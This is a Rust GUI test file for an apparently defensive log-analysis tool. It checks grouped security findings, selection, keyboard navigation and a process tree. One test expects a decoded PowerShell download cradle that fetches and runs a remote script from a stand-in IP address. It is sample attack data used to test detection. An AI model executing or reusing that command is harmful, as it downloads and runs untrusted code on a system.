//! The list of findings: groups, a click, stepping by key.

use eframe::egui::Key;
use eframe::egui::accesskit::Role;
use egui_kittest::kittest::{NodeT as _, Queryable as _};

use crate::support::{self, Window};

const TASK: &str = "High: Task that runs every few minutes, 14:22:15";

/// The findings that are marked as selected.
fn marked(window: &Window) -> Vec<String> {
    window
        .query_all_by_role(Role::ListItem)
        .filter(support::is_marked)
        .filter_map(|node| node.accesskit_node().label())
        .collect()
}

#[test]
fn groups_stand_worst_first_and_count_what_they_hold() {
    let window = support::sample();
    let groups: Vec<String> = support::names(&window, Role::Button)
        .into_iter()
        .filter(|name| name.ends_with(" findings"))
        .collect();
    let words: Vec<&str> = groups.iter().filter_map(|name| name.split(',').next()).collect();
    assert!(words.starts_with(&["Critical", "High"]), "{groups:?}");
    // The first group is in sight as a whole.
    let listed = support::names(&window, Role::ListItem);
    let critical = listed.iter().filter(|name| name.starts_with("Critical: ")).count();
    assert_eq!(groups.first(), Some(&format!("Critical, {critical} findings")));
}

#[test]
fn the_worst_finding_is_selected_once_the_logs_are_read() {
    let window = support::sample();
    assert_eq!(support::selected(&window), "powershell.exe 11872");
    assert_eq!(marked(&window), ["Critical: Zoom started hidden PowerShell, 14:21:07"]);
}

#[test]
fn a_click_selects_the_process_reveals_it_and_fills_the_inspector() {
    let mut window = support::sample();
    // Fold Zoom, so that the row has to be revealed.
    fold(&mut window, "Zoom.exe, PID 9184");
    assert!(!support::has_row(&window, "schtasks.exe, PID 12212"));
    window.get_by_role_and_label(Role::ListItem, TASK).click_accesskit();
    window.step();
    window.run_steps(3);
    assert_eq!(support::selected(&window), "schtasks.exe 12212");
    assert_eq!(marked(&window), [TASK]);
    let row = support::row(&window, "schtasks.exe, PID 12212");
    let tree = window.get_by_role_and_label(Role::Tree, "Process tree").rect();
    assert!(tree.contains_rect(row.rect()), "the row is on screen");
    window.get_by_role_and_label(Role::Heading, "schtasks.exe 12212");
}

fn fold(window: &mut Window, start: &str) {
    support::click_row(window, start);
    support::focus_tree(window);
    support::press(window, support::NONE, Key::ArrowLeft);
}

#[test]
fn what_it_really_ran_is_there_decoded() {
    let window = support::sample();
    let text = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')";
    window.get_by_role_and_label(Role::TreeItem, &format!("Decoded: {text}"));
    assert!(support::says(&window, &format!("Decoded layer 2: {text}")));
}

#[test]
fn n_and_shift_n_step_round_the_list() {
    let mut window = support::sample();
    let first = marked(&window);
    support::press(&mut window, support::NONE, Key::N);
    assert_eq!(marked(&window), ["Critical: PowerShell runs a download in memory, 14:21:07"]);
    support::press(&mut window, support::NONE, Key::N);
    assert_eq!(marked(&window), ["High: PowerShell downloads and runs text, 14:21:07"]);
    support::press(&mut window, support::SHIFT, Key::N);
    support::press(&mut window, support::SHIFT, Key::N);
    assert_eq!(marked(&window), first);
    // Before the first comes the last, in a group that was folded.
    support::press(&mut window, support::SHIFT, Key::N);
    let last = support::names(&window, Role::ListItem).last().cloned().expect("a finding");
    assert_eq!(marked(&window), [last]);
    support::press(&mut window, support::NONE, Key::N);
    assert_eq!(marked(&window), first);
}

#[test]
fn n_goes_on_while_the_tree_has_the_keyboard() {
    let mut window = support::sample();
    let first = marked(&window);
    support::click_row(&mut window, "powershell.exe, PID 11872");
    support::press(&mut window, support::NONE, Key::N);
    support::press(&mut window, support::NONE, Key::N);
    assert_ne!(marked(&window), first);
}

#[test]
fn a_group_folds_and_unfolds() {
    let mut window = support::sample();
    let high = |window: &Window| {
        support::names(window, Role::ListItem).iter().any(|name| name.starts_with("High: "))
    };
    assert!(high(&window));
    support::click(&mut window, Role::Button, "High, 8 findings");
    assert!(!high(&window));
    support::click(&mut window, Role::Button, "High, 8 findings");
    assert!(high(&window));
}
